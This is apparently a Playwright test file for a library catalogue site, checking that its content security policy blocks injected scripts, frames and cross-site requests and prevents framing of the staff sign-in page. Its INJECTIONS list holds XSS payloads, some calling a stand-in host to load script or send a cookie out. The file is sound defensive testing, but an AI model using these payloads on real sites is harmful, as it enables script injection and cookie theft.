"""The browser holds every page to its policy, and no page ever breaks it."""

from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from bootstrap.services import build_services
from bootstrap.settings import read_settings
from catalogue.roles import Role
from tests.browser.library import Library
from tests.browser.test_accessibility import PAGES
from tests.browser.test_staff import BEFORE, BEHIND, sign_in
from tests.staff import add_account


@pytest.fixture(scope="session")
def administrator(library: Library) -> str:
    """The name of somebody who may open every page of that library."""
    built = build_services(read_settings({"BELONG_DATA": str(library.data)}))
    name = add_account(built, Role.ADMINISTRATOR, name="policy@example.org")
    built.catalogue.dispose()
    return name


def test_no_page_breaks_the_policy(
    page: Page, library: Library, broken_library: Library, administrator: str, violations: list[str]
) -> None:
    for path in PAGES.values():
        page.goto(library.at(path))
        for fold in page.locator("details").all():
            fold.evaluate("fold => { fold.open = true }")
    for path in ("/", "/search?q=trust", "/records/nothing-here"):
        page.goto(broken_library.at(path))
    for path in BEFORE:
        page.goto(library.at(path))
    sign_in(page, library, administrator)
    for path in BEHIND:
        page.goto(library.at(path))
    assert violations == []


INJECTIONS = {
    "a script in the page": "document.body.append(Object.assign(document.createElement('script'), {text: 'hit = 1'}))",
    "a script of another site": "document.body.append(Object.assign(document.createElement('script'),"
    " {src: 'https://evil.example/x.js'}))",
    "markup from text": "document.body.innerHTML = '<img src=x onerror=hit=1>'",
    "a handler in the markup": "document.body.setAttribute('onclick', 'hit = 1')",
    "text that is run": "setTimeout('hit = 1')",
    "a policy of its own": "trustedTypes.createPolicy('mine', {createHTML: text => text})",
    "style in the markup": "document.body.setAttribute('style', 'display: none')",
    "a frame": "document.body.append(Object.assign(document.createElement('iframe'), {src: 'https://evil.example/'}))",
    "data for another site": "fetch('https://evil.example/').catch(() => {})",
    "an image of another site": "new Image().src = 'https://evil.example/?cookie'",
}


@pytest.mark.parametrize("injection", INJECTIONS.values(), ids=INJECTIONS.keys())
def test_what_would_break_it_is_stopped_and_seen(
    page: Page, library: Library, violations: list[str], injection: str
) -> None:
    page.goto(library.at("/search?q=trust"))
    page.evaluate(
        f"() => {{ try {{ {injection} }} catch (error) {{ if (!(error instanceof TypeError)) throw error }} }}"
    )
    page.wait_for_timeout(50)
    assert page.evaluate("() => typeof hit") == "undefined"
    assert any("violation:" in said for said in violations), violations


def test_a_page_of_another_site_cannot_show_ours_in_a_frame(
    page: Page, library: Library, violations: list[str], tmp_path: Path
) -> None:
    frame = tmp_path / "frame.html"
    frame.write_text(f'<iframe src="{library.at("/staff/sign-in")}"></iframe>')
    page.goto(frame.as_uri())
    expect(page.frame_locator("iframe").get_by_text("Password")).to_have_count(0)
    assert any("frame-ancestors" in said for said in violations)
